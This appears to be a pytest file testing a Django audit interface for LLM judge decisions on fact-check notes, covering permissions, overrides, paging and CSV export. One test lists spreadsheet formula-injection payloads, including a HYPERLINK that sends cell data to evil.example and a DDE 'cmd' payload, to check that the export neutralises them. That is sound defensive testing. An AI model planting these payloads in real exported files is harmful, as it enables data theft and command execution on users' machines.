from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse

from judging import services
from judging.models import JudgeDecision, JudgeOverride
from notes.models import NoteStatus
from tests.judging.factories import answers, note_with_evidence

pytestmark = pytest.mark.django_db


@pytest.fixture
def decisions(llm_server: Any) -> list[JudgeDecision]:
    llm_server.respond_with(
        answers(
            relevance="Snippet 1 answers the claim.\nFinal decision: yes",
            correctness="The note overstates the numbers.\nFinal decision: no",
        )
    )
    run = services.judge_run_request(note=note_with_evidence(status=NoteStatus.HELPFUL))
    while services.judge_run_step(run_id=run.pk):
        pass
    return list(JudgeDecision.objects.order_by("id"))


@pytest.mark.parametrize("name", ["judging:decision_list", "judging:decision_export"])
def test_it_refuses_the_audit_to_raters_and_contributors(name: str, rater_client: Any, contributor_client: Any) -> None:
    assert rater_client.get(reverse(name)).status_code == 403
    assert contributor_client.get(reverse(name)).status_code == 403


def test_it_refuses_detail_and_override_to_non_admins(
    decisions: list[JudgeDecision], rater_client: Any, contributor_client: Any
) -> None:
    d = decisions[0]
    for client in (rater_client, contributor_client):
        assert client.get(reverse("judging:decision_detail", args=[d.pk])).status_code == 403
        url = reverse("judging:decision_override", args=[d.pk])
        assert client.post(url, {"verdict": "no", "reason": "nope nope"}).status_code == 403
    assert not JudgeOverride.objects.exists()


def test_it_lists_and_filters_decisions_with_the_funnel(decisions: list[JudgeDecision], admin_client: Any) -> None:
    response = admin_client.get(reverse("judging:decision_list"))
    assert response.status_code == 200
    page = list(response.context["page"])
    assert {d.stage for d in page} == {"relevance", "correctness"}
    funnel = response.context["funnel"]
    assert (funnel.n_notes, funnel.n_relevant, funnel.n_correct) == (1, 1, 0)
    helpful_row = response.context["agreement"][0]
    assert (helpful_row.n_notes, helpful_row.fail_correctness) == (1, 1)
    filtered = admin_client.get(reverse("judging:decision_list"), {"stage": "correctness", "verdict": "no"})
    assert [d.stage for d in filtered.context["page"]] == ["correctness"]
    none = admin_client.get(reverse("judging:decision_list"), {"judge_kind": "classifier"})
    assert list(none.context["page"]) == []


def test_it_returns_only_the_table_to_htmx(decisions: list[JudgeDecision], admin_client: Any) -> None:
    response = admin_client.get(
        reverse("judging:decision_list"), {"stage": "relevance"}, headers={"HX-Request": "true"}
    )
    body = response.content.decode()
    assert body.lstrip().startswith('<section id="table-section">')
    assert "<html" not in body


def test_it_shows_inputs_prompt_raw_output_and_reasoning(decisions: list[JudgeDecision], admin_client: Any) -> None:
    d = decisions[1]
    body = admin_client.get(reverse("judging:decision_detail", args=[d.pk])).content.decode()
    assert "The note overstates the numbers." in body
    assert "faithful to the snippets" in body  # the prompt
    assert "Final decision: no" in body  # the raw output
    assert "650,000 children" in body  # the inputs


def test_it_requires_a_reason_to_override(decisions: list[JudgeDecision], admin_client: Any) -> None:
    d = decisions[1]
    url = reverse("judging:decision_override", args=[d.pk])
    response = admin_client.post(url, {"verdict": "yes", "reason": ""})
    assert response.status_code == 400
    assert not JudgeOverride.objects.exists()
    response = admin_client.post(url, {"verdict": "yes", "reason": "The numbers match the CDC page."})
    assert response.status_code == 302
    d.refresh_from_db()
    assert d.overridden_by is not None
    assert (d.override_verdict, d.override_reason, d.overridden_by.get_username()) == (
        "yes", "The numbers match the CDC page.", "ada",
    )  # fmt: skip
    trail = admin_client.get(reverse("judging:decision_detail", args=[d.pk])).content.decode()
    assert "The numbers match the CDC page." in trail and "Audit trail" in trail


def test_it_refuses_an_override_reason_past_its_cap(decisions: list[JudgeDecision], admin_client: Any) -> None:
    """An override reason is capped: a 1 MB reason would make a 2 MB audit page."""
    from judging.models import OVERRIDE_REASON_MAX_CHARS

    d = decisions[1]
    url = reverse("judging:decision_override", args=[d.pk])
    response = admin_client.post(url, {"verdict": "yes", "reason": "x" * 1_000_000})
    assert response.status_code == 400
    assert f"at most {OVERRIDE_REASON_MAX_CHARS:,}".replace(",", "") in response.content.decode().replace(",", "")
    assert not JudgeOverride.objects.exists()
    with pytest.raises(ValueError, match="at most"):
        services.decision_override(decision=d, verdict="yes", reason="y" * (OVERRIDE_REASON_MAX_CHARS + 1), user=None)  # type: ignore[arg-type]
    assert admin_client.post(url, {"verdict": "yes", "reason": "z" * OVERRIDE_REASON_MAX_CHARS}).status_code == 302


def test_it_exports_filtered_decisions_as_csv(decisions: list[JudgeDecision], admin_client: Any) -> None:
    response = admin_client.get(reverse("judging:decision_export"), {"stage": "relevance"})
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["stage"], r["verdict"], r["judge_kind"]) for r in rows] == [("relevance", "yes", "llm")]
    assert rows[0]["note_status"] == NoteStatus.HELPFUL


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1",
        "  =1",
        "＝1+1",
    ],
)
def test_it_neutralises_spreadsheet_formulas_in_the_csv(
    decisions: list[JudgeDecision], admin_client: Any, payload: str
) -> None:
    JudgeDecision.objects.filter(pk=decisions[0].pk).update(reasoning=payload, override_reason=payload)
    response = admin_client.get(reverse("judging:decision_export"), {"stage": "relevance"})
    row = next(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["reasoning"] == "'" + payload
    assert row["override_reason"] == "'" + payload
    assert row["latency_ms"] == str(decisions[0].latency_ms)  # numbers stay numbers


def test_it_runs_preflight_for_contributors_without_saving(contributor_client: Any, llm_server: Any) -> None:
    llm_server.respond_with(answers(relevance="None of these help.\nFinal decision: no"))
    response = contributor_client.post(
        reverse("judging:preflight"),
        {
            "post_text": "Garlic cures flu",
            "note_text": "No trial shows that.",
            "urls": "",
            "snippets": "Weather.\n\nSports.",
        },
    )
    # The request only queues the check (no LLM call in a web request); the worker's service runs it.
    assert response.status_code == 302 and llm_server.requests == []
    from judging.models import PreflightCheck

    check = PreflightCheck.objects.get()
    assert response["Location"] == reverse("judging:preflight_detail", args=[check.pk])
    services.preflight_check_run(check_id=check.pk)
    body = contributor_client.get(response["Location"]).content.decode()
    assert "None of these help." in body and "the LLM scripted-model" in body
    assert [r["messages"][-1]["content"].count("Sports.") for r in llm_server.requests] == [0, 1]
    assert not JudgeDecision.objects.exists()


def test_it_refuses_preflight_to_raters(rater_client: Any) -> None:
    assert rater_client.get(reverse("judging:preflight")).status_code == 403


def test_it_shows_preflight_errors_under_htmx_and_judges_nothing(contributor_client: Any, llm_server: Any) -> None:
    response = contributor_client.post(
        reverse("judging:preflight"),
        {"post_text": "\u200b\u202e", "note_text": "", "urls": "", "snippets": ""},
        HTTP_HX_REQUEST="true",
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert html.lstrip().startswith('<section id="result-section">')  # the fragment htmx swaps in
    assert "Post: This field is required." in html
    assert "Draft note: This field is required." in html
    assert llm_server.requests == []


def test_it_pages_the_audit_list(decisions: list[JudgeDecision], admin_client: Any) -> None:
    from judging.views import AUDIT_PAGE_SIZE

    template = decisions[0]
    JudgeDecision.objects.bulk_create(
        [
            JudgeDecision(
                note=template.note, stage=template.stage, verdict="yes", judge_kind=template.judge_kind,
                judge_name="bulk", content_hash=f"bulk-{i}", reasoning=f"Decision {i}.",
            )
            for i in range(AUDIT_PAGE_SIZE + 3 - len(decisions))
        ]
    )  # fmt: skip
    first = admin_client.get(reverse("judging:decision_list"))
    assert len(first.context["page"]) == AUDIT_PAGE_SIZE and "Page 1 of 2" in first.content.decode()
    second = admin_client.get(reverse("judging:decision_list"), {"page": "2"})
    assert len(second.context["page"]) == 3


def test_the_audit_shows_notes_judged_without_evidence_apart_and_says_why_the_funnel_is_empty(
    llm_server: Any, admin_client: Any
) -> None:
    from notes.models import Note, Post

    post = Post.objects.create(text="The MMR vaccine causes autism.", text_hash="x", is_demo=True)
    for i in range(2):
        note = Note.objects.create(post=post, text=f"No link was found ({i}).", status=NoteStatus.HELPFUL, is_demo=True)
        run = services.judge_run_request(note=note)
        while services.judge_run_step(run_id=run.pk):
            pass
    body = admin_client.get(reverse("judging:decision_list")).content.decode()
    assert "No note among these decisions was judged with real inputs yet" in body
    assert "Judged, but not counted above" in body and "judged without evidence snippets" in body
    row = body[body.index('<table class="excluded">') :].split("</table>")[0]
    assert "<td>2</td><td>2</td>" in row and "no 2" in row
    assert "cite pages with no local copy offline" in body
    assert "No crowd-rated note was judged with real inputs yet" in body


def test_every_decision_page_shows_the_note_judged_the_post_and_the_snippets(
    decisions: list[JudgeDecision], admin_client: Any
) -> None:
    from tests.judging.factories import NOTE, POST, SNIPPET

    relevance = next(d for d in decisions if d.stage == "relevance")
    assert relevance.inputs["note_text_judged"] == NOTE  # stored with the decision
    for d in decisions:
        body = admin_client.get(reverse("judging:decision_detail", args=[d.pk])).content.decode()
        judged = body.split('id="judged-note"')[1].split("</p>")[0]
        assert "Note as judged" in judged and NOTE in judged
        assert POST in body
        snippets = body.split('id="judged-snippets"')[1].split("</div>")[0]
        assert SNIPPET in snippets or (d.stage == "helpfulness" and "sees no snippets" in snippets)


def test_an_older_decision_without_stored_note_text_says_whether_the_text_shown_is_the_version_judged(
    decisions: list[JudgeDecision], admin_client: Any
) -> None:
    from tests.judging.factories import NOTE

    d = decisions[0]
    JudgeDecision.objects.filter(pk=d.pk).update(inputs={"post": d.inputs["post"], "snippets": d.inputs["snippets"]})
    body = admin_client.get(reverse("judging:decision_detail", args=[d.pk])).content.decode()
    assert "Note as judged" in body and NOTE in body  # same content hash: the version judged
    d.note.text = "A later edit of the note."
    d.note.save(update_fields=["text"])
    body = admin_client.get(reverse("judging:decision_detail", args=[d.pk])).content.decode()
    assert "Note now (changed since this decision" in body and "A later edit of the note." in body


def test_the_offline_judges_fail_relevance_for_a_note_on_another_claim(settings: Any, admin_client: Any) -> None:
    settings.LLM_BASE_URL = ""
    settings.JUDGE_BASELINE_SIMILARITY = "lexical"
    settings.HELPFULNESS_CLASSIFIER_DIR = "/nonexistent"
    off = "Studies found no link between the MMR vaccine and sudden infant death syndrome in babies."
    run = services.judge_run_request(note=note_with_evidence(text=off))
    while services.judge_run_step(run_id=run.pk):
        pass
    (decision,) = JudgeDecision.objects.filter(note=run.note)
    assert decision.stage == "relevance" and decision.verdict == "no"
    assert "The post is about autism, which the note never names" in decision.reasoning
    body = admin_client.get(reverse("judging:decision_detail", args=[decision.pk])).content.decode()
    assert off in body
